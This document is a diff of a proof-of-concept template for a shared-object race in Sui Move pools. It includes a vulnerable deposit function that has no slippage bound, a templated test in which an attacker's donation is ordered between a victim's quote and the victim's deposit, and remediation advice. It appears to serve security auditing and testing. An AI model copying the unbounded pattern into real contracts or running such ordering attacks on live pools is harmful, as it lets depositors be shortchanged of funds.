@@ -1,50 +1,105 @@
+// ---
+// name: Shared Object Race Condition
+// description: A flow spanning transactions on a shared object is interleaved by another sender
+// vulnerability_type: shared-object-race
+// class: shared-state-race
+// chain: sui
+// severity: medium
+// cwe: [CWE-362]
+// harness: sui-move-test
+// remediation: "Keep the invariant within one transaction - take a caller bound and abort past it,
+//   version the shared object, or force the sequence with a hot potato."
+// tags: [shared-object, race-condition, ordering]
+// context:
+//   PACKAGE: Named address of the package under test (the test module lives in its tests/)
+//   MODULE: Module that defines and shares the pool
+//   DEPOSIT_AMOUNT: Deposit the victim sizes from the quote
+//   ATTACK_AMOUNT: What the attacker moves into the pool between quote and deposit
+// references:
+//   - https://docs.sui.io/concepts/object-ownership/shared
+// ---
 // PoC Template: Shared Object Race Condition
-// Vulnerability: Concurrent access to shared objects causing unexpected state
-// Chain: Sui/Move
+// Vulnerability: A flow spanning transactions on a shared object is interleaved by another sender
+// Chain: Sui/Move (sui move test)
 //
-// Shared objects in Sui can be accessed by multiple transactions concurrently.
-// Without proper ordering or locking, this can lead to race conditions.
+// Transactions touching the same shared object are sequenced by consensus,
+// not by the user who planned them. A flow that reads the object in one
+// transaction and acts on what it read in the next (quote, then deposit)
+// can have another sender's transaction ordered in between.
 
 // ============================================================
 // VULNERABLE CODE PATTERN
 // ============================================================
 // module example::pool {
-//     use sui::object::{Self, UID};
-//     use sui::tx_context::TxContext;
-//     use sui::transfer;
-//
-//     struct Pool has key {
+//     public struct Pool has key {
 //         id: UID,
-//         balance: u64,
+//         balance: Balance<SUI>,
 //         total_shares: u64,
 //     }
 //
-//     // BUG: Two users calling deposit simultaneously on a shared Pool
-//     // can both read the same total_shares, causing incorrect share calculation
-//     public entry fun deposit(pool: &mut Pool, amount: u64, ctx: &mut TxContext) {
-//         let shares = if (pool.total_shares == 0) {
-//             amount
-//         } else {
-//             amount * pool.total_shares / pool.balance  // Race: stale balance
-//         };
-//         pool.balance = pool.balance + amount;
-//         pool.total_shares = pool.total_shares + shares;
+//     public fun preview_deposit(pool: &Pool, amount: u64): u64 { ... }
+//
+//     // BUG: No minimum-shares bound, so the deposit takes whatever rate the
+//     // pool has when it executes, not the one the depositor was quoted
+//     public fun deposit(pool: &mut Pool, coin: Coin<SUI>, ctx: &mut TxContext): u64 {
+//         let shares = coin.value() * pool.total_shares / pool.balance.value();
+//         ...
 //     }
 // }
+//
+// The target module needs a `#[test_only] public fun init_for_testing(ctx: &mut TxContext)`
+// that calls its `init`.
 
 // ============================================================
-// EXPLOIT SCENARIO
+// EXPLOIT TEST (sui move test)
 // ============================================================
-// 1. Pool has balance=1000, total_shares=1000
-// 2. TX-A (deposit 500) reads pool: balance=1000, total_shares=1000
-// 3. TX-B (deposit 500) reads pool: balance=1000, total_shares=1000
-// 4. TX-A completes: balance=1500, shares_minted=500, total=1500
-// 5. TX-B executes with stale values: also mints 500 shares
-// 6. Result: 2000 shares for 2000 balance (should be ~1833 shares for TX-B)
+#[test_only]
+module {{PACKAGE}}::shared_object_race_tests {
+    use sui::coin;
+    use sui::sui::SUI;
+    use sui::test_scenario as ts;
+    use {{PACKAGE}}::{{MODULE=pool}}::{Self, {{POOL_TYPE=Pool}}};
+
+    const ADMIN: address = @{{ADMIN_ADDRESS=0xAD}};
+    const VICTIM: address = @{{VICTIM_ADDRESS=0xB0B}};
+    const ATTACKER: address = @{{ATTACKER_ADDRESS=0xBAD}};
+
+    #[test]
+    fun test_shared_object_race() {
+        let mut scenario = ts::begin(ADMIN);
+        {{MODULE}}::init_for_testing(ts::ctx(&mut scenario));
+
+        // 1. The victim reads the shared pool and sizes a deposit from it
+        ts::next_tx(&mut scenario, VICTIM);
+        let pool = ts::take_shared<{{POOL_TYPE}}>(&scenario);
+        let quoted = {{MODULE}}::{{QUOTE_FUNCTION=preview_deposit}}(&pool, {{DEPOSIT_AMOUNT=1000}});
+        ts::return_shared(pool);
+
+        // 2. The attacker's transaction on the same object is ordered first
+        ts::next_tx(&mut scenario, ATTACKER);
+        let mut pool = ts::take_shared<{{POOL_TYPE}}>(&scenario);
+        let bait = coin::mint_for_testing<SUI>({{ATTACK_AMOUNT=1000000}}, ts::ctx(&mut scenario));
+        {{MODULE}}::{{ATTACK_FUNCTION=donate}}(&mut pool, bait, ts::ctx(&mut scenario));
+        ts::return_shared(pool);
+
+        // 3. The victim's deposit executes against the changed pool
+        ts::next_tx(&mut scenario, VICTIM);
+        let mut pool = ts::take_shared<{{POOL_TYPE}}>(&scenario);
+        let deposit = coin::mint_for_testing<SUI>({{DEPOSIT_AMOUNT}}, ts::ctx(&mut scenario));
+        let shares = {{MODULE}}::{{DEPOSIT_FUNCTION=deposit}}(&mut pool, deposit, ts::ctx(&mut scenario));
+        ts::return_shared(pool);
+
+        // The victim got less than it was quoted and nothing stopped it
+        assert!(shares < quoted, 0);
+        ts::end(scenario);
+    }
+}
 
 // ============================================================
-// FIX: Use versioning or ensure atomicity
+// FIX: Keep the invariant within one transaction
 // ============================================================
-// - Add a version counter to the Pool, check it in each operation
-// - Or use Sui's ordered transaction mechanism for critical operations
-// - Consider making the Pool an owned object with a wrapper for access
+// - Take the caller's bound as an argument and abort past it:
+//   `assert!(shares >= min_shares, ESlippage);`
+// - Or carry a version counter on the Pool and have dependent calls pass
+//   the version they were computed against
+// - Or force the sequence with a hot potato returned by the first step